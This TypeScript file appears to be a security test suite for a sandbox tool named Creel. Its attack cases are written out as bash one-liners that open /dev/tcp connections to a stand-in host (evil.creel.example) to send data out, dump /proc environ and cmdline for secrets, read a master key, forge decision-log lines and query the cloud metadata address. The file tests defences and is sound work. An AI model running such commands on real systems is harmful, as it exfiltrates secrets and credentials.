/** Threat: the command itself lets something in or out, before, beside or after what it confines. */
import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { setTimeout as delay } from "node:timers/promises";
import { groupOf, sh } from "../attack.ts";
import { runCreel, startCreel } from "../creel-run.ts";
import type { Case } from "../model.ts";
import { BEGAN, type Stage } from "../stage.ts";
import { all, keptSecret, neverPrints, noCredential, nothingAnywhere, prints } from "../witness.ts";

const attack = groupOf("lifecycle", ["door"]);
const none = sh("true");
const ESCAPE = "\u001b";
const LOOK_MS = 20;
/** Of every process that this user sees. */
const commandLines = (): string[] =>
  readdirSync("/proc")
    .filter((name) => /^\d+$/.test(name))
    .map((pid) => {
      try {
        return readFileSync(`/proc/${pid}/cmdline`, "latin1");
      } catch {
        return "";
      }
    });
const DENY_ALL = "version: 1\nnetwork_policies: {}\n";
const resolves = (stage: Stage): string[] =>
  Object.entries(stage.servers.resolve).flatMap(([name, address]) => ["--resolve", `${name}:${address}`]);

export const command: Case[] = [
  attack("run-default", "a command run without a policy talks to whoever it likes", {
    promise: "egress-sealed",
    program: none,
    run: (stage) =>
      runCreel(stage, [
        "run",
        ...resolves(stage),
        "--",
        "bash",
        "-c",
        "for t in evil.creel.example/443 api.creel.example/443 127.0.0.1/$0 203.0.113.5/80; do (exec 3<>/dev/tcp/$t; echo stolen >&3; read -t 30 <&3) 2>/dev/null; done; echo over",
        String(stage.servers.ports.loopback),
      ]),
    expect: all(nothingAnywhere, prints(/over/), prints(/creel: denied evil\.creel\.example/)),
  }),
  attack("run-environment", "looks for what the caller's environment holds", {
    promise: "nothing-inherited",
    program: none,
    run: (stage) => runCreel(stage, ["run", "--", "sh", "-c", "env; cat /proc/*/environ | tr '\\0' '\\n'"]),
    expect: all(keptSecret, prints(/HOME=\/sandbox/)),
  }),
  attack("run-secret", "looks for a secret's value in all that it can read, also by the name it was given under", {
    promise: "credential-hidden",
    program: none,
    run: (stage) =>
      runCreel(stage, [
        "run",
        "--secret",
        "TOKEN=env:MINE",
        "--",
        "sh",
        "-c",
        "env; cat /proc/[0-9]*/cmdline /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n'; find /run /tmp /etc/creel -type f 2>/dev/null | xargs cat 2>/dev/null",
      ]),
    expect: all(noCredential, prints(/TOKEN=creel-placeholder/)),
  }),
  attack("run-secret-argv", "another user of the host reads the command line of creel", {
    promise: "credential-hidden",
    program: none,
    run: async (stage) => {
      const running = startCreel(stage, [
        "run",
        "--secret",
        "TOKEN=env:MINE",
        "--",
        "sh",
        "-c",
        "echo INSIDE; sleep 0.3",
      ]);
      let over = false;
      const end = running.ended.then(() => {
        over = true;
      });
      // From its first moment to its last, the command inside included.
      const lines = new Set<string>();
      for (; !over; await delay(LOOK_MS)) for (const line of commandLines()) lines.add(line);
      await end;
      return { code: 0, out: `${BEGAN}\n${running.text()}${[...lines].join("\n")}` };
    },
    expect: all(noCredential, prints(/^INSIDE$/m), prints(/--secret\0TOKEN=env:MINE/)),
  }),
  attack("run-descriptors", "uses descriptors that the caller had open", {
    promise: "nothing-inherited",
    program: none,
    run: (stage) =>
      runCreel(stage, ["run", "--", "sh", "-c", "ls -l /proc/self/fd; cat /proc/self/fd/[3-9]* 2>/dev/null; true"]),
    expect: all(keptSecret, {
      says: "it holds its three standard descriptors and the folder that it lists, nothing else",
      check: ({ out }) => {
        const rows = out.split("\n").filter((row) => row.includes(" -> "));
        return rows.length >= 3 &&
          rows.length <= 4 &&
          rows.every((row) => / [0-2] -> /.test(row) || row.includes("/proc/"))
          ? null
          : rows.join("; ").slice(0, 300);
      },
    }),
  }),
  attack("run-exit-code", "lies about how it ended", {
    promise: "journal-true",
    program: none,
    run: (stage) => runCreel(stage, ["run", "--", "sh", "-c", "echo '[exit 0]'; kill -KILL $$"]),
    expect: {
      says: "the exit code is that of a killed command",
      check: ({ code }) => (code === 137 ? null : `exit code ${code}`),
    },
  }),
  attack("run-workspace-keys", "finds Creel's own keys in a workspace that holds them", {
    promise: "control-unreachable",
    program: none,
    run: (stage) => {
      const home = join(stage.base, "project/.creel");
      mkdirSync(join(home, "secrets"), { recursive: true });
      writeFileSync(join(home, "secrets/master.key"), stage.token);
      return runCreel(
        stage,
        [
          "run",
          "--workspace",
          join(stage.base, "project"),
          "--",
          "sh",
          "-c",
          "find /sandbox/work; cat .creel/secrets/master.key; umount .creel; rm -rf .creel; mv .creel x; cat x/secrets/master.key; true",
        ],
        { env: { CREEL_HOME: home } },
      );
    },
    expect: all(keptSecret, {
      says: "the key is still on the host",
      check: ({ stage }) =>
        existsSync(join(stage.base, "project/.creel/secrets/master.key")) ? null : "the key is gone",
    }),
  }),
  attack("run-workspace-tmp", "is given the folder in which control sockets lie", {
    promise: "control-unreachable",
    program: none,
    run: async (stage) => {
      const answers = [];
      for (const folder of ["/tmp", "/", join(stage.base, "creel-home")])
        answers.push(
          await runCreel(stage, ["run", "--workspace", folder, "--", "sh", "-c", "echo INSIDE; ls"], { refused: true }),
        );
      return { code: 0, out: answers.map(({ out }) => out).join("\n") };
    },
    before: (stage) => void mkdirSync(join(stage.base, "creel-home"), { recursive: true }),
    expect: all(neverPrints(/INSIDE/), prints(/\[exit 2\]/)),
  }),
  attack(
    "run-terminal-escape",
    "writes terminal codes into the sentences that creel prints, by the names that it asks for",
    {
      promise: "terminal",
      program: none,
      run: (stage) =>
        runCreel(stage, [
          "run",
          "--",
          "bash",
          "-c",
          `exec 3<>/dev/tcp/203.0.113.5/80; printf 'GET /\\e[2J\\e]0;owned\\a HTTP/1.1\\r\\nHost: x\\e[31m\\r\\n\\r\\n' >&3; read -t 30 <&3; cp /usr/bin/env $'/tmp/e\\e[2Jvil'; true`,
        ]),
      expect: {
        says: "no escape byte is printed",
        check: ({ out }) => (out.includes(ESCAPE) || out.includes("\u0007") ? "an escape byte was printed" : null),
      },
    },
  ),
  attack("run-decisions-file", "reaches the file that its decisions are written to, and forges lines in it", {
    promise: "journal-true",
    program: none,
    run: async (stage) => {
      const file = join(stage.base, "decisions.jsonl");
      const { out, code } = await runCreel(stage, [
        "run",
        "--decisions",
        file,
        "--",
        "bash",
        "-c",
        `(echo '{"decision":"allow"}' >> ${file}) 2>&1; exec 3<>/dev/tcp/203.0.113.5/80; printf 'GET /%%0a{"decision":"allow"}\\r\\n{"decision":"allow"} HTTP/1.1\\r\\n\\r\\n' >&3; read -t 30 <&3; true`,
      ]);
      return { code, out: `${out}\n[file] ${readFileSync(file, "utf8")}` };
    },
    expect: {
      says: "each line of the file is a denial by Creel",
      check: ({ out }) => {
        const lines = (out.split("[file] ")[1] ?? "").trim().split("\n");
        return lines.length > 0 &&
          lines.every((line) => {
            try {
              return JSON.parse(line).decision === "deny";
            } catch {
              return false;
            }
          })
          ? null
          : lines.join("\n").slice(0, 300);
      },
    },
  }),
  attack("run-policy-file", "reads and changes the policy that it is under", {
    promise: "control-unreachable",
    program: none,
    run: (stage) => {
      const file = join(stage.hostDir, "policy.yaml");
      writeFileSync(file, DENY_ALL, { mode: 0o666 });
      return runCreel(stage, [
        "run",
        "--policy",
        file,
        "--",
        "sh",
        "-c",
        `cat ${file}; echo broken > ${file}; ls ${stage.hostDir}`,
      ]);
    },
    expect: all(neverPrints(/network_policies/), {
      says: "the file is as it was",
      check: ({ stage }) =>
        readFileSync(join(stage.hostDir, "policy.yaml"), "utf8") === DENY_ALL ? null : "the policy was changed",
    }),
  }),
  attack("run-bad-policy", "is run under a policy that does not parse", {
    promise: "fail-closed",
    program: none,
    run: (stage) => {
      const file = join(stage.base, "bad.yaml");
      writeFileSync(file, "version: 1\nnetwork_policies: {x: {endpoints: [{host: '*', prot: rest}]}}\n");
      return runCreel(stage, ["run", "--policy", file, "--", "sh", "-c", "echo INSIDE"], { refused: true });
    },
    expect: all(neverPrints(/INSIDE$/m), {
      says: "the command is refused",
      check: ({ code }) => (code !== 0 ? null : "exit code 0"),
    }),
  }),
  attack("run-monitor", "uses monitor mode to reach the metadata service and loopback", {
    promise: "addresses",
    program: none,
    run: (stage) =>
      runCreel(stage, [
        "run",
        "--monitor",
        "--",
        "bash",
        "-c",
        `for t in 169.254.169.254/80 127.0.0.1/${stage.servers.ports.loopback}; do (exec 3<>/dev/tcp/$t; printf 'GET / HTTP/1.0\\r\\nHost: 169.254.169.254\\r\\n\\r\\n' >&3; timeout 30 cat <&3); done; true`,
      ]),
    expect: all(nothingAnywhere, prints(/creel: denied 169\.254\.169\.254|denied GET 169\.254/)),
  }),
];
